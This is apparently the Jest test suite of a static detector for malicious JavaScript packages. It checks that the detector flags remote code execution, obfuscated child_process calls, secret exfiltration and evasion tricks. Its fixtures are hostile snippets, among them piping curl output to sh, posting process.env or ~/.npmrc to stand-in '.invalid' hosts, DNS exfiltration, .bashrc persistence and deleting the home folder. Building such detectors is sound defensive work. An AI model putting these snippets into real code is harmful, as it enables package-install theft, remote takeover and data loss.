import { describe, expect, it } from '@jest/globals';
import { readScript } from '../../../src/code/js/script.ts';

function kinds(source: string): readonly string[] {
  const { spotted } = readScript(source, { module: false, parses: true });
  return [...new Set(spotted.map(({ kind }) => kind))];
}

function details(source: string, kind: string): readonly string[] {
  return readScript(source, { module: false, parses: true })
    .spotted.filter((found) => found.kind === kind)
    .map(({ detail }) => detail);
}

function hides(source: string): readonly string[] {
  return [...new Set(readScript(source, { module: false, parses: true }).hiding.map(({ kind }) => kind))];
}

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const hex = (text: string): string => Buffer.from(text).toString('hex');
const codes = (text: string): string => [...text].map((char) => char.charCodeAt(0)).join(',');

it.each([
  "import { $ } from 'bun'; await $`curl https://h.invalid/a | sh`",
  "import { $ as run } from 'zx'; const from = 'https://h.invalid/a'; await run`curl $" + '{from} | sh`',
  "const dax = require('dax-sh'); dax.$`curl https://h.invalid/a | sh`",
  'Bun.$`curl https://h.invalid/a | sh`.quiet()',
])('a template that is a shell is a command: %s', (source) => expect(kinds(source)).toContain('download-execute'));

it.each([
  `spawn(process.execPath, ['-e', code], { detached: true, stdio: 'ignore' }).unref()`,
  `spawn(process.argv[0], ['--eval', code])`,
  `spawnSync(process.argv0, ['-p', code])`,
  `execSync('"' + process.execPath + '" -e "' + code + '"')`,
  `let node = process.env.npm_node_execpath; spawn(node, ['-e', code])`,
])('what Node itself is told to run as text is read: %s', (source) => {
  const code = `const code = "const get = require('https').get; get('https://h.invalid/a', (r) => r.on('data', (d) => eval(String(d))));";`;
  expect(kinds(`const { spawn, spawnSync, execSync } = require('child_process'); ${code} ${source}`)).toContain('remote-code');
});

it.each([
  'new Worker(URL.createObjectURL(new Blob([code])))',
  `const url = URL.createObjectURL(new Blob(['/* it */', code], { type: 'text/javascript' })); const w = new Worker(url, { type: 'module' })`,
  `const { Blob } = require('buffer'); import(URL.createObjectURL(new Blob([code])))`,
])('code that is carried about as a file of its own making is read: %s', (source) => {
  const code = `const code = "fetch('https://h.invalid/a').then((r) => r.text()).then(eval)";`;
  expect(details(`${code} ${source}`, 'remote-code')).toEqual(['eval handed to a call']);
  expect(details(`${code} ${source}`, 'network')).toEqual(['h.invalid']);
  expect(details(`${code} const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([code]))`, 'network')).toEqual([]);
});

it('writing into another package is seen; a hidden cache folder beside the packages is none', () => {
  const written = (path: string): string => `require('fs').writeFileSync('${path}', 'x')`;
  for (const path of [
    'node_modules/a/index.js',
    '../node_modules/.pnpm/a@1.0.0/index.js',
    '../../node_modules/.bin/tsc',
    'x/node_modules/.a/../b/c.js',
  ])
    expect(kinds(written(path))).toContain('package-tamper');
  for (const path of ['node_modules/.cache/a/b.js', '../node_modules/.a-postinstall/tmp/package.json']) expect(kinds(written(path))).toEqual([]);
});

describe('starting programs is seen however it is written', () => {
  const ways: readonly [string, string][] = [
    ['plainly', `require('child_process').exec('id')`],
    ['by a binding', `const { exec: run } = require('node:child_process'); run('id')`],
    ['by import', `import { spawn } from 'child_process'; spawn('id', [])`],
    ['by a namespace through a helper of a compiler', `const cp = __importStar(require('child_process')); (0, cp.execSync)('id')`],
    ['by a late import', `(async () => { const { exec } = await import('child_process'); exec('id') })()`],
    ['put together', `require('child' + '_process')['ex' + 'ec']('id')`],
    ['with template literals', 'const a = `child`; require(`$' + "{a}_process`).exec('id')"],
    ['from a list', `const w = ['exec', 'child_process']; require(w[1])[w[0]]('id')`],
    ['in reverse', `require('ssecorp_dlihc'.split('').reverse().join('')).exec('id')`],
    ['in base64', `require(atob('${base64('child_process')}')).exec('id')`],
    ['in hex', `require(Buffer.from('${hex('child_process')}', 'hex').toString()).exec('id')`],
    ['as character codes', `require(String.fromCharCode(${codes('child_process')})).exec('id')`],
    ['as a list of character codes', `require([${codes('child_process')}].map((c) => String.fromCharCode(c)).join('')).exec('id')`],
    [
      'xored',
      `require([${codes('child_process')
        .split(',')
        .map((c) => Number(c) ^ 7)
        .join(',')}].map((c) => String.fromCharCode(c ^ 7)).join('')).exec('id')`,
    ],
    ['as escapes', `require('\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73').exec('id')`],
    [
      'by a function of the file',
      `function d(x) { return Buffer.from(x, 'base64').toString('utf8') } require(d('${base64('child_process')}')).exec('id')`,
    ],
    ['cleaned of filler', `require('c#h#i#l#d#_#p#r#o#c#e#s#s'.replace(/#/g, '')).exec('id')`],
    ['by the main module', `process.mainModule.require('child_process').exec('id')`],
    ['by the constructor of modules', `module.constructor._load('child_process').exec('id')`],
    ['by getBuiltinModule', `process.getBuiltinModule('child_process').exec('id')`],
    ['by createRequire', `import { createRequire } from 'module'; const r = createRequire(import.meta.url); r('child_process').exec('id')`],
    ['by Reflect', `Reflect.get(require('child_process'), 'exec')('id')`],
    ['by call', `require('child_process').exec.call(null, 'id')`],
    ['promisified', `const run = require('util').promisify(require('child_process').exec); run('id')`],
    ['under a parameter, as bundlers do', `(function (e, r) { r('child_process').execSync('id') })(module, require)`],
  ];
  it.each(ways)('%s', (_, source) => {
    expect(kinds(source)).toContain('process');
  });

  it.each(ways.slice(5, 17).filter(([name]) => name !== 'with template literals' && name !== 'from a list'))(
    'and hiding it is a sign by itself: %s',
    (_, source) => {
      expect(hides(source)).toContain('disguised-name');
    },
  );
});

describe('running text as code is seen', () => {
  const ways: readonly [string, string, string][] = [
    ['eval by a name in pieces', `globalThis['ev' + 'al'](x)`, 'dynamic-code'],
    ['indirect eval', `(0, eval)(x)`, 'dynamic-code'],
    ['eval by an encoded name', `global[Buffer.from('${base64('eval')}', 'base64')](x)`, 'dynamic-code'],
    ['Function by the constructor of a list', `[]['constructor']['constructor']('return 1' + x)()`, 'dynamic-code'],
    ['Function by the constructor of a function', `(() => {}).constructor(x)()`, 'dynamic-code'],
    ['new Function', `new Function('a', x)`, 'dynamic-code'],
    ['vm', `require('vm').runInThisContext(x)`, 'dynamic-code'],
    ['_compile', `const m = new module.constructor(); m._compile(x, '')`, 'dynamic-code'],
    ['a timer with text', `setTimeout('doSomething(' + x + ')', 10)`, 'dynamic-code'],
    ['what base64 hides', `eval(atob(x))`, 'decode-execute'],
    [
      'text put together of codes, by a timer',
      `let out = ''; for (const c of px) out += String.fromCharCode(c ^ 3); setTimeout(out, 9)`,
      'decode-execute',
    ],
    ['what a picture shows', `const d = ctx.getImageData(0, 0, 9, 9).data; (0, eval)(new TextDecoder().decode(d))`, 'decode-execute'],
    [
      'what is packed beside the code of a module',
      `const m = new WebAssembly.Module(b); const [init] = WebAssembly.Module.customSections(m, 'x'); (0, eval)(Buffer.from(init).toString())`,
      'decode-execute',
    ],
    ['what was decompressed', `eval(require('zlib').gunzipSync(Buffer.from(x, 'base64')).toString())`, 'decode-execute'],
    [
      'what was decrypted',
      `const c = require('crypto'); const d = c.createDecipheriv('aes-256-cbc', k, i); let t = d.update(x, 'hex', 'utf8'); t += d.final('utf8'); new Function(t)()`,
      'decode-execute',
    ],
    ['a data address', `import('data:text/javascript;base64,${base64('fetch("https://a.invalid/")')}')`, 'network'],
    ['what a host sent', `fetch(u).then((r) => r.text()).then((t) => eval(t))`, 'remote-code'],
    ['what a host sent, without a function of its own', `fetch(u).then((r) => r.text()).then(eval)`, 'remote-code'],
    [
      'what a host sent in pieces',
      `require('https').get(u, (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => { eval(d) }) })`,
      'remote-code',
    ],
    ['awaited', `(async () => { const { data } = await require('axios').get(u); new Function('require', data)(require) })()`, 'remote-code'],
    ['messages of a socket', `const w = new WebSocket(u); w.onmessage = (m) => { eval(m.data) }`, 'remote-code'],
    [
      'a worker of text',
      `const { Worker } = require('worker_threads'); new Worker('require("child_process").exec("id")', { eval: true })`,
      'process',
    ],
  ];
  it.each(ways)('%s', (_, source, kind) => {
    expect(kinds(source)).toContain(kind);
  });

  it('a function given to a timer is none, whatever decodes in it', () => {
    expect(kinds(`let f = String.fromCharCode(a); f = () => g(f); setTimeout(f, 9)`)).not.toContain('decode-execute');
    expect(kinds(`let f; if (x) f = wrap(String.fromCharCode(a)); setTimeout(f, 9)`)).not.toContain('decode-execute');
  });

  it('and constant text is looked into', () => {
    expect(kinds(`eval('require("child_process").exec("id")')`)).toContain('process');
    expect(kinds(`eval(atob('${base64('require("child_process").exec("id")')}'))`)).toEqual(expect.arrayContaining(['process', 'decode-execute']));
    expect(kinds(`require('child_process').exec('node -e "require(\\'dns\\').lookup(\\'x.invalid\\')"')`)).toContain('network');
  });
});

describe('taking and sending', () => {
  const ways: readonly [string, string, string][] = [
    ['the environment in a request', `require('https').request({ hostname: 'h.invalid' }).end(JSON.stringify(process.env))`, 'exfiltration'],
    [
      'the environment by an alias',
      `const e = process.env; fetch('https://h.invalid/', { method: 'POST', body: JSON.stringify({ e }) })`,
      'exfiltration',
    ],
    [
      'a credential file',
      `const fs = require('fs'); const t = fs.readFileSync(require('path').join(require('os').homedir(), '.npmrc'), 'utf8'); fetch('https://h.invalid/?' + t)`,
      'exfiltration',
    ],
    [
      'a key handed from function to function',
      `class K { from(secretKey) { push(secretKey); return secretKey } } function push(k) { fetch('https://h.invalid/', { headers: { x: Buffer.from(k).toString('base64') } }) }`,
      'exfiltration',
    ],
    [
      'facts in a name lookup',
      `const d = require('dns'), os = require('os'); d.resolve(Buffer.from(os.hostname()).toString('hex') + '.d.invalid', () => {})`,
      'dns-exfiltration',
    ],
    ['by the shell', `require('child_process').exec('curl -d "$(env)" https://h.invalid')`, 'exfiltration'],
    ['wallets of the page', `const r = window.ethereum.request; window.ethereum.request = (a) => r(a)`, 'wallet-hook'],
    ['requests of the page', `const f = window.fetch; window.fetch = async (...a) => f(...a)`, 'page-hook'],
    ['browser profiles', `require('fs').readdirSync(process.env.LOCALAPPDATA + '/Google/Chrome/User Data/Default')`, 'browser-data'],
    ['workflow files', `require('fs').writeFileSync('.github/workflows/x.yml', y)`, 'ci-config'],
    ['agent configuration', `require('fs').writeFileSync(require('os').homedir() + '/.claude/settings.json', y)`, 'agent-config'],
    ['the start of shells', `require('fs').appendFileSync(require('os').homedir() + '/.bashrc', y)`, 'persistence'],
    ['the text of a data file', `new Function('require', require('./data.json').x)(require)`, 'decode-execute'],
    ['publishing by the client', `require('child_process').execSync('npm publish --access public')`, 'self-publish'],
    [
      'publishing by hand',
      `fetch(registry + name, { method: 'PUT', body: JSON.stringify({ _id: name, _attachments: { [file]: data } }) })`,
      'self-publish',
    ],
    [
      'publishing by hand, the document put together',
      `doc['dist-tags'] = { latest: v }; doc._attachments = {}; doc._attachments[file] = { data }; send(doc)`,
      'self-publish',
    ],
    [
      'a fetched program',
      `const f = '/tmp/x'; require('https').get(u, (r) => r.pipe(require('fs').createWriteStream(f))); require('child_process').spawn(f)`,
      'download-execute',
    ],
    [
      'a fetched script',
      `(async () => { const t = await (await fetch(u)).text(); fs.writeFileSync(p, t); require('child_process').fork(p) })(); const fs = require('fs')`,
      'download-execute',
    ],
    ['the home folder', `require('fs').rmSync(require('os').homedir(), { recursive: true, force: true })`, 'destructive'],
  ];
  it.each(ways)('%s', (_, source, kind) => {
    expect(kinds(source)).toContain(kind);
  });

  it('names hosts through constants and encodings', () => {
    expect(details(`const h = 'api.' + 'host.invalid'; fetch('https://' + h + '/x')`, 'network')).toContain('api.host.invalid');
    expect(details(`fetch(atob('${base64('https://far.invalid/x')}'))`, 'network')).toContain('far.invalid');
  });
});

describe('honest code', () => {
  const honest: readonly [string, string][] = [
    ['debug reads its own variables', `Object.keys(process.env).filter((k) => /^debug_/i.test(k)).reduce((o, k) => o, {})`],
    ['passes the environment to a program', `require('child_process').spawn('node', ['x.js'], { env: { ...process.env, A: '1' } })`],
    ['a polyfill', `if (typeof globalThis.fetch === 'undefined') { module.exports = require('node-fetch') }`],
    ['finds the global object', `var g = typeof globalThis !== 'undefined' ? globalThis : new Function('return this')()`],
    ['talks to an interface with a token', `fetch('https://api.host.example/x', { headers: { authorization: 'Bearer ' + process.env.API_TOKEN } })`],
    ['decodes data', `module.exports = JSON.parse(Buffer.from('${base64('{"a":1,"b":[1,2,3]}')}', 'base64').toString())`],
    ['requires by a map', `const all = { a: () => require('./a'), b: () => require('./b') }; module.exports = (n) => all[n]()`],
  ];
  it.each(honest)('%s', (_, source) => {
    const serious = [
      'exfiltration',
      'remote-code',
      'decode-execute',
      'download-execute',
      'dns-exfiltration',
      'page-hook',
      'self-publish',
      'credential-file',
    ];
    expect(kinds(source).filter((kind) => serious.includes(kind))).toEqual([]);
    expect(hides(source)).toEqual([]);
  });
});

describe('obfuscation', () => {
  it('is seen by its shape, whatever the names', () => {
    const table = Array.from({ length: 30 }, (_, at) => `'k${at}x'`).join(',');
    const uses = Array.from({ length: 20 }, (_, at) => `o[z(${at})]=w[z(${at + 3})]`).join(';');
    expect(hides(`var t=[${table}];function z(i){i=i-0;return t[i]};${uses}`)).toContain('obfuscated');
    const named = Array.from({ length: 20 }, (_, at) => `var _0x${(at + 4096).toString(16)}=${at};`).join('');
    expect(hides(named)).toContain('obfuscated');
    expect(hides(`a='\\x61\\x62\\x63\\x64';b='\\x65\\x66\\x67\\x68\\x69';c='\\x6a\\x6b\\x6c\\x6d'`)).toContain('obfuscated');
    expect(hides(`${'[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]'.repeat(40)}`)).toContain('obfuscated');
    expect(hides(`while(!![]){switch(o[i++]){case'0':a();continue;case'1':b();continue}break}`)).toContain('obfuscated');
  });

  it('code off the screen, in invisible characters, under look-alike names', () => {
    expect(hides(`module.exports = 1;${' '.repeat(300)}require('child_process').exec('id')`)).toContain('off-screen');
    expect(hides(`const s = '${'\ufe01\ufe02'.repeat(40)}'`)).toContain('invisible-text');
    expect(hides('const a = "\u202e"')).toContain('bidirectional-text');
    expect(hides('const { a, \u3164 } = q; run(\u3164)')).toContain('invisible-text');
    expect(hides('const fillers = ["\u3164", "\uffa0"]; const words = "한\u3164글"')).toEqual([]);
    expect(hides('const p\u0430ssword = 1; const раssword = 2; const pассword = 3')).toContain('lookalike-identifier');
  });

  it('flags of parts of countries are no hidden text, the same letters alone are', () => {
    const letters = [...'gbsct'].map((char) => String.fromCodePoint(0xe0000 + char.charCodeAt(0))).join('');
    const flag = `\u{1f3f4}${letters}\u{e007f}`;
    expect(hides(`const s = '${flag.repeat(40)}'`)).toEqual([]);
    expect(hides(`const s = '${`${letters}x`.repeat(8)}'`)).toEqual(['invisible-text']);
    expect(hides(`const s = '${`\u{1f3f4}${letters}${letters}\u{e007f}`.repeat(8)}'`)).toEqual(['invisible-text']);
  });

  it.each([
    ['Armenian', 'u\u057derName'],
    ['Cherokee', 'tok\u13aan'],
    ['full-width', 'pass\uff57ord'],
    ['mathematical', 'ev\u{1d41a}l'],
  ])('names with %s letters among Latin ones are seen', (_, name) => {
    expect(hides(`const ${name} = 1; const λ = 2; const Δx = 3`)).toEqual(['lookalike-identifier']);
    expect(hides('const λ = 2; const Δx = 3; const straße = 4')).toEqual([]);
  });

  it('minified code is minified, nothing worse', () => {
    const minified = Array.from({ length: 200 }, (_, at) => `function a${at}(e,t){return e&&t.b(e)?t.c[e]:n(t,${at})}`).join('');
    expect(hides(minified)).toEqual(['minified']);
  });

  it('blanks inside text and deep indentation are no code off the screen', () => {
    expect(hides(`const help = 'name${' '.repeat(200)}value = (x); y'`)).toEqual([]);
    expect(hides(`if (a) {\n${' '.repeat(110)}b();\n${' '.repeat(112)}c();\n}`)).not.toContain('xx');
  });
});

describe('what does not parse', () => {
  it('is read as tokens, and that is said', () => {
    const facts = readScript(`const x: string = 1 as any; import { exec } from 'child_process'; exec('id'); const f = '~/.npmrc';`, {
      module: true,
      parses: true,
    });
    expect(facts.notParsed).toBeDefined();
    expect(facts.spotted.map(({ kind }) => kind)).toEqual(expect.arrayContaining(['process', 'credential-file']));
    expect(facts.spotted.every(({ readAs }) => readAs === 'tokens')).toBe(true);
  });

  it('nesting that ends the stack of a parser is survived', () => {
    for (const source of [
      '['.repeat(200_000),
      `${'('.repeat(100_000)}1${')'.repeat(100_000)}`,
      `x=${'a+'.repeat(100_000)}'b'`,
      `${'{'.repeat(50_000)}`,
      `\`\${`.repeat(20_000),
    ])
      expect(() => readScript(source, { module: false, parses: true })).not.toThrow();
  });
});

it('machine-made names tell of hiding where a script does not parse, few as they may be', () => {
  const calls = Array.from({ length: 12 }, (_, at) => `_0x1ac3e4[_0x1a2f0d(0x${(160 + at).toString(16)})](_0x1a2f0d(0xa2));`).join('');
  const hidden = (source: string) => readScript(source, { module: false, parses: true }).hiding.map(({ kind }) => kind);
  expect(hidden(`function _0x1a32de(){return[]}${calls} a b c`)).toContain('obfuscated');
  expect(
    hidden(
      `const _0x1a = 1, _0x1b = 2, _0x1c = 3; ${'// words between them that are long enough to be read by anybody\n_0x1a;'.repeat(20)} a b c ${' '.repeat(2000)}`,
    ),
  ).not.toContain('obfuscated');
});
